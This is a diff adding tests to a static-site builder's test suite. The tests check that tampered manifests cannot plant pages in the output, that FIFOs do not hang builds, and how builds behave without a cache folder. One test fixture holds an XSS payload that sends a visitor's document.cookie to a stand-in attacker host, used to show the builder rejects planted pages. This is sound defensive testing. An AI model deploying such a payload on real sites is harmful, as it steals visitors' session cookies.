@@ -5,6 +5,9 @@ with the folder it is given.
 
 from __future__ import annotations
 
+import hashlib
+import json
+import os
 import shutil
 from collections.abc import Iterator
 from datetime import date
@@ -99,3 +102,68 @@ def test_a_folder_committed_with_a_manifest_cannot_slip_its_own_pages_into_an_ex
     build_site(repo.open(), public, BASE, TODAY)
     for page in ("index.html", "chapters/a/index.html", "static/app.js"):
         assert (public / page).read_bytes() == (honest / page).read_bytes(), page
+
+
+def test_a_manifest_edited_to_vouch_for_planted_pages_is_not_believed(repo: ManualRepo):
+    """The same, with the manifest edited to give the planted pages' own digests (review: the
+    read-back compared each file with the manifest beside it, which the author wrote too).
+    Only the manifest this user's last build wrote into the folder is believed (its digest is
+    kept in the cache folder); an incremental build into one's own folder still keeps what is
+    unchanged."""
+    repo.commit({"a.md": doc("A")}, "Add", "2024-01-02T10:00:00+00:00")
+    honest = repo.path.parent / "honest"
+    build_site(repo.open(), honest, BASE, TODAY)
+    again = build_site(repo.open(), honest, BASE, TODAY)
+    assert again.counts.written == 0 and again.rendered == ()  # (incremental, its own folder)
+    public = repo.path / "public"
+    shutil.copytree(honest, public, ignore=shutil.ignore_patterns(".tracker-build.lock"))
+    planted = b'<script>location="https://evil.example/"+document.cookie</script>'
+    evil = hashlib.sha256(planted).hexdigest()
+    manifest = json.loads((public / ".tracker-build.json").read_text())
+    for page in ("index.html", "chapters/a/index.html"):
+        (public / page).write_bytes(planted)
+        manifest["files"][page] = evil
+    for address, kept in manifest["pages"]["pages"].items():
+        if address in ("/", "/chapters/a/"):
+            kept[1] = evil
+    (public / ".tracker-build.json").write_text(json.dumps(manifest))
+    repo.git("add", "--all")
+    repo.git("commit", "--quiet", "-m", "Add the site")
+    build_site(repo.open(), public, BASE, TODAY)
+    for page in ("index.html", "chapters/a/index.html"):
+        assert (public / page).read_bytes() == (honest / page).read_bytes(), page
+
+
+def test_a_fifo_where_the_manifest_lists_a_page_does_not_hang_the_build(repo: ManualRepo):
+    """Reading a file back to compare it opened a FIFO and waited for ever (review)."""
+    repo.commit({"a.md": doc("A")}, "Add", "2024-01-02T10:00:00+00:00")
+    site = repo.path.parent / "site"
+    build_site(repo.open(), site, BASE, TODAY)
+    (site / "chapters" / "a" / "index.html").unlink()
+    os.mkfifo(site / "chapters" / "a" / "index.html")
+    build_site(repo.open(), site, BASE, TODAY)
+    assert (site / "chapters" / "a" / "index.html").is_file()
+
+
+def test_without_the_cache_folder_a_build_writes_every_file_and_still_removes_what_went(
+    repo: ManualRepo, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+):
+    """CI keeping the output folder but not the cache folder: the manifest is not vouched for,
+    so every file is written anew, and the files it lists that this build does not make (as a
+    page of a version no longer shown) are still removed."""
+    repo.commit({"a.md": doc("A")}, "Add", "2024-01-02T10:00:00+00:00")
+    site = tmp_path / "site"
+    monkeypatch.setenv("TRACKER_CACHE_DIR", str(tmp_path / "first"))
+    first = build_site(repo.open(), site, BASE, TODAY)
+    gone = site / "chapters" / "a" / "at" / "1999-01-01" / "index.html"  # as a past build's
+    gone.parent.mkdir(parents=True)
+    gone.write_text("old")
+    manifest = json.loads((site / ".tracker-build.json").read_text())
+    manifest["files"]["chapters/a/at/1999-01-01/index.html"] = hashlib.sha256(b"old").hexdigest()
+    (site / ".tracker-build.json").write_text(json.dumps(manifest))
+    monkeypatch.setenv("TRACKER_CACHE_DIR", str(tmp_path / "second"))
+    report = build_site(repo.open(), site, BASE, TODAY)
+    assert report.counts.unchanged == 0 and report.counts.written == report.files == first.files
+    assert not gone.exists() and report.counts.removed == 1
+    again = build_site(repo.open(), site, BASE, TODAY)  # (vouched for now)
+    assert again.counts.written == 0 and again.counts.unchanged == again.files
